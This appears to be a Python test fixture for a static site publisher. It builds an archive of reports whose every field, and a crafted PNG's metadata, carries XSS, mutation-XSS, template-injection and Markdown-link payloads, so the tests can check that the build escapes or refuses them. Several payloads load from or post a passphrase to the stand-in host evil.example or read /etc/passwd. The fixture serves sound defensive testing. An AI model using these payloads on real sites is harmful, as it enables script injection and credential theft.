"""Text that wants to be more than text, and an archive whose every field holds some.

The payloads are of our own writing, one or more for each class that the suites of DOMPurify and html5lib know;
`python -m tests.readers.browser.corpora` runs those suites themselves. Whatever runs, calls ``alert``; whatever loads,
asks ``evil.example``. What is NOT done here: looking at the outcome.
"""

import json
import struct
import zlib
from collections.abc import Iterable
from pathlib import Path

from publish.tree.sources.notes import note

_PAYLOADS = (
    # elements that run, or load what runs
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import('//evil.example/a.mjs')</script>",
    "<script>/*</title></style></textarea>*/alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea></noscript></xmp></plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>",
    "<frameset onload=alert(1)><frame src=//evil.example/></frameset>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/a.swf allowscriptaccess=always>",
    "<applet code=A archive=//evil.example/a.jar></applet>",
    "<portal src=//evil.example/></portal>",
    # handlers, in all the ways of writing an attribute
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src='x'onerror='alert(1)'>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=x OnErRoR=alert`1`>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=x:x onerror=&#97;lert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=//evil.example/pixel.png srcset='//evil.example/2.png 2x'>",
    "<image src=x onerror=alert(1)>",
    "<video poster=//evil.example/p.png><source src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay></audio>",
    "<track src=//evil.example/t.vtt default>",
    "<body onload=alert(1) background=//evil.example/b.png>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=animation:a onanimationstart=alert(1)><style>@keyframes a{}</style></div>",
    "<a href=# onclick=alert(1) onpointerover=alert(1)>x</a>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>",
    "<xss contenteditable tabindex=1 id=x onfocus=alert(1)>x</xss>",
    "\" onmouseover=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1) x=`",
    "x onmouseover=alert(1)",
    "\"><svg onload=alert(1)>",
    "'><svg onload=alert(1)>",
    # drawings and formulas, whose rules of parsing differ
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) onbegin=alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><image href=//evil.example/i.png /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    # harmless until somebody parses it a second time
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    "<p id=`><img src=x onerror=alert(1)>`>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;svg/onload=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u0130mg src=x onerror=alert(1)>",
    "<ſcript>alert(1)</ſcript>",
    # what moves or rewrites the page without running anything
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<meta charset=utf-7>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<link rel=import href=//evil.example/i.html><link rel=prefetch href=//evil.example/p>",
    "<style>@import '//evil.example/s.css';body{display:none}</style>",
    "<p style=\"background:url(//evil.example/b.png);position:fixed;inset:0\">",
    "<p style=\"width:expression(alert(1));behavior:url(//evil.example/x.htc)\">",
    "<form action=//evil.example/><input name=passphrase><button>Verify</button></form>",
    "<form id=f action=javascript:alert(1)></form><button form=f autofocus>x</button>",
    "<isindex type=image src=1 onerror=alert(1) action=javascript:alert(1)>",
    "<a href=//evil.example/ ping=//evil.example/ping target=_blank>x</a>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<form name=body><input name=firstChild><img name=getElementById><a id=location>",
    "<plaintext>",
    # templates, and other hands that the text passes through
    "{{ 7*7 }} {{ config.items() }} {{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}{% set csp = '' %}{# gone #}",
    "${alert(1)} #{alert(1)} <%= alert(1) %> [[alert(1)]]",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp>{{$on.constructor('alert(1)')()}}</div>",
    "%(title)s {0.__class__} $page",
    # text that deceives the eye
    "safe \u2067gnp.exe\u2069 \u200f\u200e end",
    "zero\u200bwidth\u2060\u00adjoined",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e",
    "\U000e0073\U000e0074 tags \U0001f3f4\U000e0067\U000e007f",
)  # fmt: skip
SHOWN = tuple(payload for payload in _PAYLOADS if not note(payload))
"""Comments and instructions are refused; the rest is published as it was typed."""
"""Shown as text, wherever they stand."""

REFUSED = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript://evil.example/%0Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](blob:https://evil.example/1)",
    "[x](filesystem:https://evil.example/1)",
    "[x](view-source:https://evil.example/)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example\\share)",
    "[x](/etc/passwd)",
    "[x](?q=<script>alert(1)</script>)",
    "[x](../../../outside.md)",
    "[x](http:javascript:alert(1))",
    "[x](https:///evil.example/)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](http&colon;//evil.example/pixel.png)",
    "![x](x\"onerror=alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x][r]\n\n[r]: https://evil.example/pixel.png 'x'",
    "[![x](https://evil.example/p.png)](https://example.org/)",
    "<javascript:alert(1)>\n\n[x](javascript:alert(1) \"title\")",
)  # fmt: skip
"""Links of Markdown that the build names and refuses; a page with one of them is not published."""

FIELDS = 7
"""In how many fields of a page's head a payload of `report` stands whole."""

PLACES = 14
"""In how many places of its Markdown, at least: quotes within may unmake a link."""

_DOCUMENT, _PICTURE = "evidence/document.txt", "evidence/picture.png"


def report(payload: str, number: int, *, body: bool = True) -> str:
    """A report with ``payload`` in its every field, and wherever Markdown lets it stand."""
    line = " ".join(payload.split())
    text, address, name = (
        json.dumps(words, ensure_ascii=False)
        for words in (line, f"https://example.org/{line}", f"{line[:60]} {number}")
    )
    head = (
        f"---\ntitle: {text}\nsummary: {text}\ndate: 2013-04-02\nlanguage: en\n"
        f"places: [{name}]\ntags: [{name}]\n"  # short and numbered: each gets a page, and a path
        f"sources:\n  - title: {text}\n    publisher: {text}\n    url: {address}\n"
        f"evidence:\n  - file: {_DOCUMENT}\n    title: {text}\n"
        f"  - file: {_PICTURE}\n    title: {text}\n    metadata: kept\n"
        f"corrections:\n  - date: 2013-05-01\n    note: {text}\n---\n\nNumber {number}.\n\n"
    )
    indented = "    " + payload.replace("\n", "\n    ")
    places = (
        payload, f"## {line}", f"- {line}", f"> {line}", f"x | y\n--|--\n{line} | x", f"`{line}`", indented,
        f"{line}\n:   {line}", f"[{line}](https://example.org/)", f"Noted[^1]\n\n[^1]: {line}",
        f'[x](https://example.org/ "{line}")', f"![{line}](../../evidence/picture.png)", f"**{line}**", payload,
    )  # fmt: skip
    return head + "\n\n".join(places if body else [indented]) + "\n"


def site(payloads: Iterable[str], *, bodiless: frozenset[int] = frozenset()) -> dict[str, str | bytes | None]:
    """Files below site/ with a report for each payload; those of ``bodiless`` numbers have it in their head alone."""
    files: dict[str, str | bytes | None] = {
        path(number): report(payload, number, body=number not in bodiless) for number, payload in enumerate(payloads)
    }
    files[_DOCUMENT] = "what was said: <b>bold</b> <script>alert(1)</script>\n"
    files[_PICTURE] = picture("<script>alert(1)</script><img src=//evil.example/x onerror=alert(1)>")
    return files


def picture(note: str) -> bytes:
    """A PNG of one pixel that has ``note`` as its comment, as its EXIF, and after its end."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    words = note.encode()
    exif = b"MM\x00*\x00\x00\x00\x08" + struct.pack(">HHHIII", 1, 0x010E, 2, len(words), 26, 0) + words
    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"tEXt", b"Comment\0" + words) + chunk(b"eXIf", exif)
        + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"") + words
    )  # fmt: skip


def path(number: int) -> str:
    """Source of the report with the payload of that number, below site/."""
    return f"reports/{2000 + number // 200}/p{number}.md"


def lay(root: Path, files: dict[str, str | bytes | None]) -> Path:
    """Make an archive of ``files`` at ``root``."""
    from tests.support.small import archive

    bare = dict.fromkeys(("reports/2013/one.md", "reports/2013/two.md", "reports/2014/three.md", "evidence/order.png"))
    return archive(root, **(bare | {"index.md": "---\ntitle: Front\nlanguage: en\n---\n\nFront.\n"} | files))
